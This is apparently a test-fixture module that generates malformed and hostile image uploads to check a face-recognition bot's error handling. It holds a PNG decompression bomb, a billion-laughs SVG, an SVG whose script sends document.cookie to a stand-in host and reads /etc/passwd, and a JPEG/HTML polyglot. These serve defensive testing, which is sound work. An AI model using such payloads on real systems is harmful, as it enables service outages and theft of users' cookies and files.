// The bad-input corpus of issue 12, generated in memory from a few shared photos: what strangers may post.
// Nothing here is committed as a file; `scripts/bad-inputs.ts` writes the corpus to a temporary folder.
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { dataDir, personFiles, readData } from './data.ts';

/** What a member should see for one bad input. */
export type Outcome =
  /** A UserError of this code whose text matches `text`. */
  | { code: string; text: RegExp }
  /** An ordinary answer naming a celebrity: the input was odd but valid. */
  | { code: 'answer' };

/** One kind of bad input: a file, the type and name it claims, and what the member should see. */
export interface BadInput {
  kind: string;
  /** The file name it is posted under. */
  name: string;
  /** The content type it is posted with (what a client or platform claims). */
  contentType: string;
  bytes: Uint8Array;
  expect: Outcome;
}

/** Over every limit: the chat platforms download at most 10 MB, the decoder (and the CLI) takes 20 MB. */
const OVER_LIMIT = 20 * 1024 * 1024 + 1024;

const NOT_IMAGE = /not an image I can read/;
const DAMAGED = /damaged or cut off/;
const TOO_BIG = /too big \(\d+x\d+ pixels\); the limit is 40 megapixels/;
const NO_FACE = /couldn't find a face/i;

function pngChunk(type: string, body: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(body.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), body]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([len, typed, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A PNG whose header claims `width` x `height` (8-bit RGB). `rows` rows of zero pixels follow, compressed:
 * all of them makes a valid decompression bomb, one makes a header that lies about its data.
 */
export function pngWithHeader(width: number, height: number, rows = 1): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(rows * (1 + width * 3)), { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real small JPEG whose start-of-frame is patched to claim `width` x `height`. */
export async function jpegWithHeader(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 8, height: 8, channels: 3, background: '#777' } })
      .jpeg()
      .toBuffer(),
  );
  for (let i = 2; i + 9 < jpeg.length; ) {
    const marker = jpeg[i + 1]!;
    if (marker >= 0xc0 && marker <= 0xcf && ![0xc4, 0xc8, 0xcc].includes(marker)) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  throw new Error('no start-of-frame marker found');
}

/** Twelve different celebrity crops, each on a grey margin, tiled 4 x 3: more faces than the limit of 10. */
export async function faceGrid(count = 12, columns = 4): Promise<Buffer> {
  const root = path.join(dataDir(), 'celebs');
  const people = ['barack_obama', 'drew_barrymore', 'gwyneth_paltrow', 'halle_berry', 'hugh_jackman'];
  const { readdirSync } = await import('node:fs');
  const all = readdirSync(root).sort();
  const chosen = [...new Set([...people, ...all])].slice(0, count);
  const cell = 224;
  const tiles = await Promise.all(
    chosen.map(async (person, i) => ({
      input: await sharp(personFiles(path.join(root, person))[0])
        .resize(112, 112)
        .extend({ top: 56, bottom: 56, left: 56, right: 56, background: '#808080' })
        .toBuffer(),
      left: (i % columns) * cell,
      top: Math.floor(i / columns) * cell,
    })),
  );
  return sharp({
    create: {
      width: columns * cell,
      height: Math.ceil(count / columns) * cell,
      channels: 3,
      background: '#808080',
    },
  })
    .composite(tiles)
    .jpeg({ quality: 92 })
    .toBuffer();
}

function random(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    // xorshift32: the same "random" bytes every run, so a failure can be reproduced.
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

function isoBox(brands: string[]): Buffer {
  const body = Buffer.from(`${brands[0]}\0\0\0\0${brands.join('')}`, 'latin1');
  const size = Buffer.alloc(4);
  size.writeUInt32BE(8 + body.length);
  return Buffer.concat([size, Buffer.from('ftyp'), body, Buffer.alloc(256)]);
}

/** Every kind of bad input, in a fixed order; each has a unique `kind` and file name. */
export async function badInputs(): Promise<BadInput[]> {
  const portrait = readData('bbt', 'penny', 'penny1.png');
  const face = sharp(portrait);
  const jpeg = await face.clone().jpeg({ quality: 90 }).toBuffer();
  const png = await face.clone().png({ compressionLevel: 0 }).toBuffer();
  const flipped = Buffer.from(png);
  // Bits flipped in the middle of the compressed pixel data: the chunk's checksum no longer matches.
  for (let i = Math.floor(flipped.length / 2); i < flipped.length / 2 + 64; i += 4) flipped[i]! ^= 0x5a;
  const sideways = await face.clone().rotate(-90).jpeg().withMetadata({ orientation: 6 }).toBuffer();
  const upsideDown = await face.clone().rotate(180).jpeg().withMetadata({ orientation: 3 }).toBuffer();
  const frames = await face.clone().resize(200, 200).raw().toBuffer();
  const animated = await sharp(Buffer.concat([frames, Buffer.alloc(frames.length, 40)]), {
    raw: { width: 200, height: 400, channels: 3, pageHeight: 200 },
  })
    .gif({ delay: [300, 300], loop: 0 })
    .toBuffer();
  const billionLaughs =
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n' +
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text>&d;&d;&d;&d;</text></svg>';
  const scripted =
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">' +
    '<script>fetch("https://example.invalid/?c="+document.cookie)</script>' +
    '<image href="file:///etc/passwd" width="100" height="100"/></svg>';

  const inputs: BadInput[] = [
    {
      kind: 'empty file',
      name: 'empty.jpg',
      contentType: 'image/jpeg',
      bytes: new Uint8Array(0),
      expect: { code: 'empty_file', text: /empty \(0 bytes\)/ },
    },
    {
      kind: 'text under an image name',
      name: 'notes.png',
      contentType: 'image/png',
      bytes: Buffer.from('Dear diary,\nthis is not a selfie.\n'.repeat(20)),
      expect: { code: 'not_image', text: /a text file, not an image/ },
    },
    {
      kind: 'truncated JPEG',
      name: 'half.jpg',
      contentType: 'image/jpeg',
      bytes: jpeg.subarray(0, Math.floor(jpeg.length / 2)),
      expect: { code: 'corrupt_image', text: DAMAGED },
    },
    {
      kind: 'truncated PNG',
      name: 'half.png',
      contentType: 'image/png',
      bytes: png.subarray(0, Math.floor(png.length / 2)),
      expect: { code: 'corrupt_image', text: DAMAGED },
    },
    {
      kind: 'bit-flipped PNG',
      name: 'flipped.png',
      contentType: 'image/png',
      bytes: flipped,
      expect: { code: 'corrupt_image', text: DAMAGED },
    },
    {
      kind: 'header-only PNG',
      name: 'header.png',
      contentType: 'image/png',
      bytes: png.subarray(0, 33),
      expect: { code: 'corrupt_image', text: DAMAGED },
    },
    {
      kind: 'header-only JPEG',
      name: 'header.jpg',
      contentType: 'image/jpeg',
      bytes: jpeg.subarray(0, 20),
      expect: { code: 'corrupt_image', text: DAMAGED },
    },
    {
      kind: 'decompression bomb (10000x10000 PNG, ~100 KB)',
      name: 'bomb.png',
      contentType: 'image/png',
      bytes: pngWithHeader(10_000, 10_000, 10_000),
      expect: { code: 'too_many_pixels', text: TOO_BIG },
    },
    {
      kind: 'PNG header claiming 30000x30000',
      name: 'huge.png',
      contentType: 'image/png',
      bytes: pngWithHeader(30_000, 30_000),
      expect: { code: 'too_many_pixels', text: /30000x30000/ },
    },
    {
      kind: 'JPEG header claiming 65000x65000',
      name: 'huge.jpg',
      contentType: 'image/jpeg',
      bytes: await jpegWithHeader(65_000, 65_000),
      expect: { code: 'too_many_pixels', text: /65000x65000/ },
    },
    {
      kind: 'SVG with entity expansion',
      name: 'laughs.png',
      contentType: 'image/svg+xml',
      bytes: Buffer.from(billionLaughs),
      expect: { code: 'not_image', text: /an SVG drawing/ },
    },
    {
      kind: 'SVG with script and a file reference',
      name: 'script.svg',
      contentType: 'image/svg+xml',
      bytes: Buffer.from(scripted),
      expect: { code: 'not_image', text: /an SVG drawing/ },
    },
    {
      kind: 'HEIC under a .jpg name',
      name: 'iphone.jpg',
      contentType: 'image/jpeg',
      bytes: isoBox(['heic', 'mif1', 'heic']),
      expect: { code: 'not_image', text: /HEIC photo/ },
    },
    {
      kind: 'PDF under a .png name',
      name: 'invoice.png',
      contentType: 'image/png',
      bytes: Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF\n'),
      expect: { code: 'not_image', text: /a PDF document/ },
    },
    {
      kind: 'ZIP under a .jpg name',
      name: 'archive.jpg',
      contentType: 'image/jpeg',
      bytes: Buffer.concat([Buffer.from('PK\u0003\u0004'), random(512, 7)]),
      expect: { code: 'not_image', text: /a ZIP archive/ },
    },
    {
      kind: 'MP4 video under a .jpg name',
      name: 'clip.jpg',
      contentType: 'image/jpeg',
      bytes: isoBox(['isom', 'iso2', 'avc1', 'mp41']),
      expect: { code: 'not_image', text: /a video/ },
    },
    {
      kind: 'BMP under a .png name',
      name: 'paint.png',
      contentType: 'image/png',
      bytes: Buffer.concat([Buffer.from('BM'), random(256, 11)]),
      expect: { code: 'not_image', text: /a BMP bitmap/ },
    },
    {
      kind: 'random bytes',
      name: 'noise.jpg',
      contentType: 'image/jpeg',
      bytes: random(4096, 3),
      expect: { code: 'not_image', text: NOT_IMAGE },
    },
    {
      kind: '1x1 pixel',
      name: 'pixel.png',
      contentType: 'image/png',
      bytes: await sharp({ create: { width: 1, height: 1, channels: 3, background: '#c96' } })
        .png()
        .toBuffer(),
      expect: { code: 'no_face', text: NO_FACE },
    },
    {
      kind: '10000x10 strip',
      name: 'strip.png',
      contentType: 'image/png',
      bytes: await sharp({ create: { width: 10_000, height: 10, channels: 3, background: '#58a' } })
        .png()
        .toBuffer(),
      expect: { code: 'flat_image', text: /thin strip \(10000x10 pixels\)/ },
    },
    {
      kind: 'photo without a face',
      name: 'white.png',
      contentType: 'image/png',
      bytes: readData('misc', 'no-face-white.png'),
      expect: { code: 'no_face', text: NO_FACE },
    },
    {
      kind: '16-bit PNG',
      name: 'deep.png',
      contentType: 'image/png',
      bytes: await face.clone().toColourspace('rgb16').png().toBuffer(),
      expect: { code: 'answer' },
    },
    {
      kind: 'CMYK JPEG',
      name: 'print.jpg',
      contentType: 'image/jpeg',
      bytes: await face.clone().toColourspace('cmyk').jpeg().toBuffer(),
      expect: { code: 'answer' },
    },
    {
      kind: 'grey + alpha PNG',
      name: 'grey.png',
      contentType: 'image/png',
      bytes: await face.clone().greyscale().ensureAlpha(0.8).png().toBuffer(),
      expect: { code: 'answer' },
    },
    {
      kind: 'animated GIF',
      name: 'anim.gif',
      contentType: 'image/gif',
      bytes: animated,
      expect: { code: 'answer' },
    },
    {
      kind: 'EXIF orientation 6 (sideways)',
      name: 'exif6.jpg',
      contentType: 'image/jpeg',
      bytes: sideways,
      expect: { code: 'answer' },
    },
    {
      kind: 'EXIF orientation 3 (upside down)',
      name: 'exif3.jpg',
      contentType: 'image/jpeg',
      bytes: upsideDown,
      expect: { code: 'answer' },
    },
    {
      kind: 'WebP sent as application/octet-stream',
      name: 'selfie.webp',
      contentType: 'application/octet-stream',
      bytes: await face.clone().webp().toBuffer(),
      expect: { code: 'answer' },
    },
    {
      kind: 'more than 10 faces',
      name: 'crowd.jpg',
      contentType: 'image/jpeg',
      bytes: await faceGrid(),
      expect: { code: 'too_many_faces', text: /more than 10 faces/ },
    },
    {
      kind: 'polyglot (JPEG + ZIP + HTML)',
      name: 'polyglot.jpg',
      contentType: 'image/jpeg',
      bytes: Buffer.concat([
        jpeg,
        Buffer.from('<html><script>alert(1)</script></html>PK\u0005\u0006'),
        Buffer.alloc(18),
      ]),
      expect: { code: 'answer' },
    },
    {
      kind: 'over the byte limit',
      name: 'big.png',
      contentType: 'image/png',
      bytes: Buffer.concat([png, random(OVER_LIMIT - png.length, 5)]),
      expect: { code: 'file_too_large', text: /too large/ },
    },
  ];
  const names = new Set(inputs.map((i) => i.name));
  if (names.size !== inputs.length) throw new Error('every bad input needs its own file name');
  return inputs;
}
